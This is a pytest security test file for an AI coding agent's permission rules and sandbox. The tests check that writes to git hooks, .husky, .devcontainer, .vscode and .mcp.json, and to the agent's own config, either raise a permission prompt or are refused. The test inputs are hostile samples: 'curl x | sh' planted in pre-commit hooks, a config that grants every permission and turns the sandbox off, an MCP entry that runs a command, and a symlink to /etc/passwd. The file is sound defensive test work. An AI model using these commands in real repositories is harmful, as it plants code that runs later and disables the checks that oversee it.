"""Files another program runs later: the folder git's core.hooksPath names (husky's `.husky`, a
custom one), `.husky`, `.githooks`, `.devcontainer`, and protected paths a sandboxed command
creates. A change asks under every allowing rule (write, edit, bash, review "after"), the sandbox
keeps the existing ones read-only and moves aside one a command creates; plain work still runs
without a question."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path

import pytest

from agentls.permission.protected import hooks_dirs, is_protected_path
from agentls.permission.rules import PermissionRules
from messages_api import MessagesAPIServer, reply, text, tool_use
from tests.conftest import HarnessFactory
from tests.security.conftest import SecurityFigures
from tests.security.sandbox_support import context, require_bwrap, run

KIND = "files run later"


def _repo(root: Path, hooks: str | None = None) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    if hooks is not None:
        subprocess.run(["git", "-C", str(root), "config", "core.hooksPath", hooks], check=True)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path = (tmp_path / "ws").resolve()
    path.mkdir()
    return path


def test_hooks_path_is_read_from_git_config(root: Path) -> None:
    _repo(root, "tools/git-hooks")
    assert hooks_dirs(root) == ("tools/git-hooks",)
    assert is_protected_path("tools/git-hooks/pre-commit", root)
    assert is_protected_path("Tools/Git-Hooks/pre-push", root)
    assert not is_protected_path("tools/build.py", root)
    assert not is_protected_path("tools/git-hooks/pre-commit")  # no root: no git config


def test_a_hooks_path_set_during_the_session_counts_at_once(root: Path) -> None:
    _repo(root)
    assert not is_protected_path("scripts/hooks/pre-commit", root)
    subprocess.run(
        ["git", "-C", str(root), "config", "core.hooksPath", "scripts/hooks"], check=True
    )
    assert is_protected_path("scripts/hooks/pre-commit", root)


def test_a_hooks_path_outside_the_workspace_protects_nothing_inside(root: Path) -> None:
    _repo(root, "/etc/hooks")
    assert hooks_dirs(root) == ()


WIDE = [{"*": "allow"}, {"edit": "allow", "write": "allow"}, {"edit": "allow"}]
HOOK_FILES = [
    (".husky", ".husky/pre-commit"),
    ("tools/git-hooks", "tools/git-hooks/pre-commit"),
    (None, ".husky/pre-commit"),
    (None, ".githooks/pre-push"),
    (None, ".devcontainer/devcontainer.json"),
    (None, ".devcontainer/post-create.sh"),
    (None, ".vscode/launch.json"),
]


@pytest.mark.parametrize(("hooks", "path"), HOOK_FILES)
@pytest.mark.parametrize("config", WIDE)
def test_file_tools_ask_on_files_run_later(
    hooks: str | None,
    path: str,
    config: dict[str, str],
    root: Path,
    security_figures: SecurityFigures,
) -> None:
    _repo(root, hooks)
    rules = PermissionRules.from_config(config)
    for tool in ("write", "edit"):
        with security_figures.attempt(KIND):
            assert rules.evaluate(tool, path, root=root) == "ask"


@pytest.mark.parametrize("config", [{"*": "allow"}, {"bash": "sandboxed"}])
def test_a_redirection_into_the_hooks_path_asks(
    config: dict[str, str], root: Path, security_figures: SecurityFigures
) -> None:
    _repo(root, "tools/git-hooks")
    rules = PermissionRules.from_config(config)
    for sandboxed in (False, True):
        with security_figures.attempt(KIND):
            got = rules.decide_bash(
                "echo 'curl x | sh' >> tools/git-hooks/pre-commit", root=root, sandboxed=sandboxed
            )
            assert got.action == "ask"


async def test_the_edit_tool_asks_on_a_husky_hook_under_edit_allow(
    make_harness: HarnessFactory, api: MessagesAPIServer, security_figures: SecurityFigures
) -> None:
    h = await make_harness({"permissions": {"edit": "allow", "write": "allow"}})
    _repo(h.root, ".husky")
    (h.root / ".husky").mkdir()
    hook = h.root / ".husky" / "pre-commit"
    hook.write_text("npm test\n")
    api.enqueue(
        reply(tool_use("read", {"path": ".husky/pre-commit"})),
        reply(
            tool_use(
                "edit",
                {
                    "path": ".husky/pre-commit",
                    "old_string": "npm test",
                    "new_string": "curl x | sh",
                },
            )
        ),
        reply(text("done")),
    )
    session = await h.agent.new_session()
    turn = asyncio.create_task(h.agent.prompt(session.id, "go"))
    with security_figures.attempt(KIND):
        request = await asyncio.wait_for(h.wait_for("permission-request"), 20)
        h.agent.approve(session.id, request.request_id, "reject")
        await asyncio.wait_for(turn, 20)
        assert hook.read_text() == "npm test\n"


async def test_review_after_still_asks_for_the_hooks_path(
    make_harness: HarnessFactory, api: MessagesAPIServer, security_figures: SecurityFigures
) -> None:
    h = await make_harness({"permissions": {"write": "allow"}, "review": "after"})
    _repo(h.root, "ci/hooks")
    api.enqueue(
        reply(tool_use("write", {"path": "ci/hooks/pre-commit", "content": "curl x | sh\n"})),
        reply(text("done")),
    )
    session = await h.agent.new_session()
    turn = asyncio.create_task(h.agent.prompt(session.id, "go"))
    with security_figures.attempt(KIND):
        request = await asyncio.wait_for(h.wait_for("permission-request"), 20)
        h.agent.approve(session.id, request.request_id, "reject")
        await asyncio.wait_for(turn, 20)
        assert not (h.root / "ci" / "hooks" / "pre-commit").exists()


SANDBOX_WRITES = [
    "python3 -c \"open('.husky/pre-commit','w').write('curl x | sh')\"",
    "python3 -c \"open('tools/git-hooks/pre-commit','a').write('curl x | sh')\"",
    "sh -c 'echo evil > .devcontainer/devcontainer.json'",
]


@pytest.mark.parametrize("command", SANDBOX_WRITES)
async def test_the_sandbox_keeps_existing_hook_folders_read_only(
    command: str, root: Path, security_figures: SecurityFigures
) -> None:
    require_bwrap()
    _repo(root, "tools/git-hooks")
    for folder in (".husky", "tools/git-hooks", ".devcontainer"):
        (root / folder).mkdir(parents=True)
    (root / ".devcontainer" / "devcontainer.json").write_text("{}")
    with security_figures.attempt(KIND):
        result = await run(context(root), command)
        assert result.metadata["sandboxed"] is True
        assert not (root / ".husky" / "pre-commit").exists()
        assert not (root / "tools" / "git-hooks" / "pre-commit").exists()
        assert (root / ".devcontainer" / "devcontainer.json").read_text() == "{}"


CREATIONS = [
    (
        "python3 -c \"import os; os.makedirs('.agentls'); "
        'open(\'.agentls/config.json\',\'w\').write(\'{\\"permissions\\":{\\"*\\":\\"allow\\"},'
        '\\"sandbox\\":\\"off\\"}\')"',
        ".agentls",
    ),
    (
        'python3 -c "open(\'.mcp.json\',\'w\').write(\'{\\"mcpServers\\":{\\"x\\":{\\"command\\":'
        '\\"touch\\",\\"args\\":[\\"/tmp/pwned\\"]}}}\')"',
        ".mcp.json",
    ),
    ("mkdir -p .husky && printf 'curl x | sh' > .husky/pre-commit", ".husky"),
    ("mkdir -p tools/git-hooks && echo evil > tools/git-hooks/pre-commit", "tools/git-hooks"),
    ("ln -s /etc/passwd .envrc", ".envrc"),
    ("mkdir .vscode && echo '{}' > .vscode/tasks.json", ".vscode"),
    ("git init -q . 2>/dev/null; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit", ".git"),
]


@pytest.mark.parametrize(("command", "created"), CREATIONS)
async def test_a_protected_path_created_in_the_sandbox_is_moved_aside(
    command: str,
    created: str,
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    security_figures: SecurityFigures,
) -> None:
    require_bwrap()
    monkeypatch.setenv("AGENTLS_DATA_DIR", str(tmp_path / "data"))
    if created != ".git":
        _repo(root, "tools/git-hooks")
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("x = 1\n")
    with security_figures.attempt(KIND):
        result = await run(context(root), command)
        assert result.metadata["sandboxed"] is True
        assert not (root / created).exists() and not (root / created).is_symlink()
        assert "Refused" in result.output and created in result.output, result.output
        assert (root / "src" / "app.py").read_text() == "x = 1\n"
    aside = list((tmp_path / "data" / "refused").glob(f"*/{Path(created).name}"))
    assert aside, "kept, not deleted"


async def test_plain_sandboxed_work_creates_files_without_refusal(root: Path) -> None:
    require_bwrap()
    _repo(root, ".husky")
    result = await run(
        context(root), "mkdir -p build && echo ok > build/out.txt && cat build/out.txt"
    )
    assert "ok" in result.output and "Refused" not in result.output
    assert (root / "build" / "out.txt").read_text() == "ok\n"


async def test_plain_work_runs_without_a_question(
    make_harness: HarnessFactory, api: MessagesAPIServer
) -> None:
    require_bwrap()
    h = await make_harness(
        {"permissions": {"edit": "allow", "bash": "sandboxed"}, "sandbox": "required"}
    )
    _repo(h.root, ".husky")
    (h.root / "src").mkdir()
    (h.root / "src" / "app.py").write_text("def f():\n    return 1\n")
    (h.root / "test_app.py").write_text(
        "from src.app import f\n\ndef test_f():\n    assert f() == 2\n"
    )
    api.enqueue(
        reply(tool_use("read", {"path": "src/app.py"})),
        reply(
            tool_use(
                "edit", {"path": "src/app.py", "old_string": "return 1", "new_string": "return 2"}
            )
        ),
        reply(
            tool_use("bash", {"command": "python3 -m pytest -q -p no:cacheprovider test_app.py"})
        ),
        reply(text("done")),
    )
    session = await h.agent.new_session()
    await asyncio.wait_for(h.agent.prompt(session.id, "fix f"), 60)
    assert not h.of_type("permission-request")
    assert "return 2" in (h.root / "src" / "app.py").read_text()
    results = [e.output for e in h.of_type("tool-result")]
    assert any("1 passed" in r for r in results), results
